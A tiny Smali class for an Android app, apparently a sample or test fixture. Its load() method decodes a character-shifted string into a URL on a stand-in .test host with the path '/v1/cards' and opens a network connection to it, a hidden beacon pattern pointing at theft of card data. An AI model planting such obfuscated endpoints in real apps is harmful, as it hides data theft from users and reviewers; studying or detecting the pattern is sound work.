.class public Lo1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "myyux?44tgkz3xmtu3yjxy4{64hfwix"
    const/4 v1, 0x5
    invoke-static {v0, v1}, Lo1/O;->d(Ljava/lang/String;I)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lo1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

